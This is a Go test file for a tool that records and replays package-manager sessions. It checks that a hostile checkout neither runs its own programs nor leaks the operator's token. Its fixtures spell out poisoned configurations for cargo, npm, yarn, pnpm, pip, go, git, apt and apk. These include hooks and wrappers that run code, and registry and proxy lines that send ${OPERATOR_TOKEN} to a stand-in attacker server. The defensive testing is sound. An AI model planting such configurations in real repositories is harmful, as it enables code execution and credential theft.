package session_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"overland/internal/digest"
	"overland/internal/lockfile"
	"overland/internal/session"
	"overland/internal/source"
)

// hostile are files of a checkout with which it would run a program of its own, or have a secret
// sent to itself, when a tool is asked about itself in there. MARK is a command that leaves a mark,
// THIEF the address of a server of the attacker.
var hostile = map[string]lure{
	"cargo, programs": {files: map[string]string{
		".cargo/config.toml": "[build]\nrustc = \"./.cargo/evil.sh\"\nrustc-wrapper = \"./.cargo/evil.sh\"\n" +
			"[resolver]\nincompatible-rust-versions = \"fallback\"\n[registry]\nglobal-credential-providers = [\"./.cargo/evil.sh\"]\n" +
			"[env]\nRUSTC = { value = \"./.cargo/evil.sh\", force = true }\n",
		".cargo/evil.sh": "#!/bin/sh\nMARK\n",
		"Cargo.toml":     "[package]\nname = \"x\"\nversion = \"0.0.0\"\n", "src/lib.rs": "",
	}},
	"cargo, a toolchain": {files: map[string]string{
		"rust-toolchain.toml": "[toolchain]\npath = \"./evil\"\n",
		"evil/bin/cargo":      "#!/bin/sh\nMARK\n", "evil/bin/rustc": "#!/bin/sh\nMARK\n",
	}},
	"cargo, a registry": {files: map[string]string{
		".cargo/config.toml": "[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+THIEF/${OPERATOR_TOKEN}/\"\n" +
			"[http]\nproxy = \"THIEF\"\ncainfo = \"/dev/null\"\n",
	}},
	"pip, a module": {files: map[string]string{
		"pip/__init__.py": "", "pip/__main__.py": "import os; os.system('MARK')\n", "sitecustomize.py": "import os; os.system('MARK')\n",
		"pip.conf": "[global]\nindex-url = THIEF/simple/\n", ".python-version": "evil\n",
	}, env: []string{"PIP_CONFIG_FILE=pip.conf", "PYTHONPATH=."}},
	"npm, a login": {files: map[string]string{
		".npmrc": "registry=THIEF/\n//ADDRESS/:_authToken=${OPERATOR_TOKEN}\n//ADDRESS/:_password=${OPERATOR_TOKEN}\n" +
			"node-options=--require ./evil.js\nscript-shell=./evil.sh\n",
		"package.json": "{\"name\":\"x\",\"scripts\":{\"preinstall\":\"MARK\"}}", "evil.js": "require('child_process').execSync('MARK')",
		"evil.sh": "#!/bin/sh\nMARK\n",
	}, env: []string{"npm_config_userconfig=.npmrc"}},
	"npm, an address": {files: map[string]string{
		".npmrc": "registry=THIEF/${OPERATOR_TOKEN}/\n@leaf:registry=THIEF/${OPERATOR_TOKEN}/\n//ADDRESS/${OPERATOR_TOKEN}/:_authToken=x\n", "package.json": "{}",
	}},
	"npm, node, and what yarn, pnpm and corepack read": {files: map[string]string{
		"evil.js": "require('child_process').execSync('MARK')", ".node-version": "evil", ".nvmrc": "evil",
		".yarnrc":       "yarn-path \"./evil.js\"\nregistry \"THIEF/${OPERATOR_TOKEN}/\"\n",
		".yarnrc.yml":   "yarnPath: ./evil.js\nplugins:\n  - ./evil.js\nnpmRegistryServer: \"THIEF/${OPERATOR_TOKEN}/\"\nnpmAuthToken: \"${OPERATOR_TOKEN}\"\nunsafeHttpWhitelist: [\"*\"]\n",
		".pnpmfile.cjs": "require('child_process').execSync('MARK')", "pnpm-workspace.yaml": "packages: ['.']\npnpmfile: ./evil.js\nconfigDependencies:\n  evil: THIEF/evil.tgz\n",
		"package.json":        "{\"name\":\"x\",\"packageManager\":\"yarn@THIEF/evil.tgz\",\"devEngines\":{\"packageManager\":{\"name\":\"pnpm\",\"onFail\":\"download\"}}}",
		".yarn/releases/y.js": "require('child_process').execSync('MARK')", ".corepack.env": "COREPACK_NPM_REGISTRY=THIEF\nNODE_OPTIONS=--require ./evil.js\n",
		"yarn.lock":      "\"evil@THIEF/evil.tgz\":\n  version \"1.0.0\"\n  resolved \"THIEF/${OPERATOR_TOKEN}\"\n",
		"pnpm-lock.yaml": "lockfileVersion: '9.0'\na: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: [*b, *b, *b]\n", ".pnp.cjs": "require('child_process').execSync('MARK')",
		"bin/yarn": "#!/bin/sh\nMARK\n", "bin/pnpm": "#!/bin/sh\nMARK\n", "bin/corepack": "#!/bin/sh\nMARK\n",
	}, env: []string{"NODE_OPTIONS=--require ./evil.js", "YARN_RC_FILENAME=.yarnrc.yml"}},
	"go, a toolchain": {files: map[string]string{
		"go.mod": "module x\n\ngo 1.99.0\n\ntoolchain go1.99.9\n", "go.work": "go 1.99.0\n\nuse .\n",
		"go.env": "GOFLAGS=-toolexec=./evil.sh\nGOTOOLCHAIN=go1.99.9\n", "evil.sh": "#!/bin/sh\nMARK\n", "off": "GOSUMDB=off\n",
	}, env: []string{"GOTOOLCHAIN=auto", "GOPROXY=THIEF", "GOFLAGS=-modfile=go.mod", "GONOSUMDB=*"}},
	"git": {files: map[string]string{
		".gitconfig": "[core]\n\tfsmonitor = MARK\n\tpager = MARK\n", ".git/config": "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = MARK\n" +
			"\thooksPath = .\n\tsshCommand = MARK\n[filter \"x\"]\n\tclean = MARK\n\tsmudge = MARK\n\tprocess = MARK\n[diff]\n\texternal = MARK\n[alias]\n\trev-parse = !MARK\n",
		".gitattributes": "* filter=x\n", "post-checkout": "#!/bin/sh\nMARK\n",
	}, env: []string{"GIT_DIR=.git", "GIT_SSH_COMMAND=MARK", "GIT_EXTERNAL_DIFF=MARK"}},
	"apt": {files: map[string]string{
		"apt.conf": "APT::Update::Pre-Invoke { \"MARK\"; };\nDPkg::Pre-Invoke { \"MARK\"; };\nAcquire::http::Proxy \"THIEF\";\n" +
			"Dir::Bin::methods \".\";\nDir::Bin::apt-key \"./evil.sh\";\n", "http": "#!/bin/sh\nMARK\n", "evil.sh": "#!/bin/sh\nMARK\n",
	}, env: []string{"APT_CONFIG=apt.conf"}},
	"apk": {files: map[string]string{
		"etc/apk/repositories": "THIEF/${OPERATOR_TOKEN}/main\n", "repositories": "THIEF/main\n", "apk": "#!/bin/sh\nMARK\n",
	}},
	"programs of the same names": {files: map[string]string{
		"cargo": "#!/bin/sh\nMARK\n", "npm": "#!/bin/sh\nMARK\n", "node": "#!/bin/sh\nMARK\n", "pip": "#!/bin/sh\nMARK\n", "pip3": "#!/bin/sh\nMARK\n",
		"python3": "#!/bin/sh\nMARK\n", "go": "#!/bin/sh\nMARK\n", "apt-get": "#!/bin/sh\nMARK\n", "apk": "#!/bin/sh\nMARK\n", "git": "#!/bin/sh\nMARK\n",
		"yarn": "#!/bin/sh\nMARK\n", "pnpm": "#!/bin/sh\nMARK\n", "corepack": "#!/bin/sh\nMARK\n", "yarnpkg": "#!/bin/sh\nMARK\n",
	}, env: []string{"PATH=.:PATH"}},
}

// lure is what a checkout holds, and the variables of the caller that lead there.
type lure struct {
	files map[string]string
	env   []string
}

// together returns several of hostile, for tools that do not know of each other, in one checkout: every
// session asks all tools about themselves.
func together(names ...string) lure {
	all := lure{files: map[string]string{}}
	for _, name := range names {
		h, ok := hostile[name]
		if !ok {
			panic("nothing is called " + name)
		}
		for file, text := range h.files {
			if had, ok := all.files[file]; ok && had != text {
				panic("two files " + file)
			}
			all.files[file] = text
		}
		all.env = append(all.env, h.env...)
	}
	return all
}

// thief remembers what is sent to it, and answers nothing.
type thief struct {
	*httptest.Server
	mu  sync.Mutex
	got strings.Builder
}

func newThief(t *testing.T) *thief {
	th := &thief{}
	th.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		th.mu.Lock()
		defer th.mu.Unlock()
		fmt.Fprintln(&th.got, r.Method, r.URL, r.Header)
		http.NotFound(w, r)
	}))
	th.Listener.Close()
	th.Listener = listen(t, "127.0.0.2:0")
	th.Start()
	t.Cleanup(th.Close)
	return th
}

func (th *thief) heard() string {
	th.mu.Lock()
	defer th.mu.Unlock()
	return th.got.String()
}

// python returns a PATH with python3 and without a pip: so it is asked as a module.
func python(t *testing.T) string {
	t.Helper()
	out, err := exec.CommandContext(t.Context(), "python3", "-c", "import sys; print(sys.executable)").Output()
	if err != nil {
		t.Fatal(err)
	}
	bin := t.TempDir()
	text := "#!/bin/sh\nexec " + strings.TrimSpace(string(out)) + " \"$@\"\n"
	if err := os.WriteFile(filepath.Join(bin, "python3"), []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"sh", "curl", "touch", "git"} {
		path, err := exec.LookPath(name)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(path, filepath.Join(bin, name)); err != nil {
			t.Fatal(err)
		}
	}
	return bin
}

// A tool is asked about itself where no file of the checkout counts, without the operator's
// secrets: recording, replaying and verifying in a hostile checkout leave no mark and send nothing.
func TestS1AHostileCheckoutRunsNothing(t *testing.T) {
	locked := &lockfile.Lock{}
	for protocol, key := range map[string]string{
		"cargo": "tea", "go": "example.org/tea/@v/v1.0.0.mod", "npm": "tea", "pypi": "tea", "apt": "tea/dists/calm/InRelease", "apk": "main/x86_64/APKINDEX.tar.gz",
	} {
		locked.Entries = append(locked.Entries, lockfile.Entry{Protocol: protocol, Key: key, Status: http.StatusOK, Blob: digest.Of(nil)})
	}
	tried := 0
	for _, names := range [][]string{
		{"cargo, programs", "npm, a login", "go, a toolchain", "apt"},
		{"cargo, a toolchain", "npm, an address", "apk"},
		{"cargo, a registry", "npm, node, and what yarn, pnpm and corepack read"},
		{"git"},
		{"pip, a module"},
		{"programs of the same names"},
	} {
		h := together(names...)
		tried += len(names)
		t.Run(strings.Join(names, " and "), func(t *testing.T) {
			th := newThief(t)
			checkout, marks := t.TempDir(), t.TempDir()
			words := strings.NewReplacer("MARK", "touch "+marks+"/ran", "THIEF", th.URL, "ADDRESS", strings.TrimPrefix(th.URL, "http://"), ":PATH", ":"+os.Getenv("PATH"))
			git(t, checkout, "init", "-q")
			git(t, checkout, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
			for file, text := range h.files {
				path := filepath.Join(checkout, file)
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(words.Replace(text)), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			o, out := newOptions(t, `for url in "$npm_config_registry" "$PIP_INDEX_URL" THIEF/ THIEF/config.json; do curl -s -o /dev/null "${url}tea"; done; true`)
			o.Command[2] = words.Replace(o.Command[2])
			t.Setenv("OPERATOR_TOKEN", "s3cr3t")
			if names[0] == "pip, a module" {
				t.Setenv("PATH", python(t))
			}
			for _, kv := range h.env {
				name, value, _ := strings.Cut(words.Replace(kv), "=")
				t.Setenv(name, value)
			}
			t.Chdir(checkout)
			lock := *locked
			verify := o
			verify.Command, verify.Lock = nil, &lock
			if _, err := session.Verify(t.Context(), verify); err != nil {
				t.Logf("verify: %v", err)
			}
			o.WorkDir, o.Lock = checkout, &lock
			if _, err := session.Replay(t.Context(), o); err != nil {
				t.Logf("replay: %v %s", err, out)
			}
			o.Lock = nil
			if _, err := session.Record(t.Context(), o); err != nil {
				t.Logf("record: %v %s", err, out)
			}
			if repo, err := source.Open(t.Context(), checkout); err == nil {
				_, err = repo.Resolve(t.Context(), "")
				t.Logf("git: %v", err)
			}
			if list, _ := os.ReadDir(marks); len(list) != 0 {
				t.Error("a program of the checkout ran")
			}
			if heard := th.heard(); strings.Contains(heard, "s3cr3t") {
				t.Errorf("a secret was sent:\n%s", heard)
			}
			if heard := th.heard(); slices.Contains(names, "go, a toolchain") && heard != strings.ReplaceAll(heard, "toolchain", "") {
				t.Errorf("a toolchain was asked for:\n%s", heard)
			}
		})
	}
	if tried != len(hostile) {
		t.Errorf("%d of %d were tried", tried, len(hostile))
	}
}

// Verifying reads files: it starts no tool at all, and still knows the key of the checksum database.
func TestS1VerifyStartsNoTool(t *testing.T) {
	root, err := exec.CommandContext(t.Context(), "go", "env", "GOROOT").Output()
	if err != nil {
		t.Fatal(err)
	}
	bin, marks := t.TempDir(), t.TempDir()
	l := &lockfile.Lock{}
	for protocol, tools := range map[string]string{
		"cargo tea": "cargo rustc rustup", "go example.org/tea/@v/v1.0.0.mod": "go", "npm tea": "npm node", "pypi tea": "pip pip3 python3",
		"apt tea/dists/calm/InRelease": "apt-get apt-config dpkg gpgv", "apk main/x86_64/APKINDEX.tar.gz": "apk",
	} {
		name, key, _ := strings.Cut(protocol, " ")
		l.Entries = append(l.Entries, lockfile.Entry{Protocol: name, Key: key, Status: http.StatusOK, Blob: digest.Of(nil)})
		for tool := range strings.FieldsSeq(tools) {
			if err := os.WriteFile(filepath.Join(bin, tool), []byte("#!/bin/sh\n: >"+marks+"/"+tool+"\n"), 0o755); err != nil {
				t.Fatal(err)
			}
		}
	}
	o, _ := newOptions(t, "")
	o.Command, o.Lock = nil, l
	t.Setenv("PATH", bin)
	t.Setenv("GOROOT", strings.TrimSpace(string(root)))
	for _, e := range l.Entries {
		if _, _, err := o.Store.Put(t.Context(), strings.NewReader(""), e.Blob, 0); err != nil {
			t.Fatal(err)
		}
	}
	bad, err := session.Verify(t.Context(), o)
	if err != nil || len(bad) == 0 {
		t.Errorf("%v, %v", bad, err)
	}
	if ran, _ := os.ReadDir(marks); len(ran) != 0 {
		t.Errorf("started: %v", ran)
	}
}

func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), "git", args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}
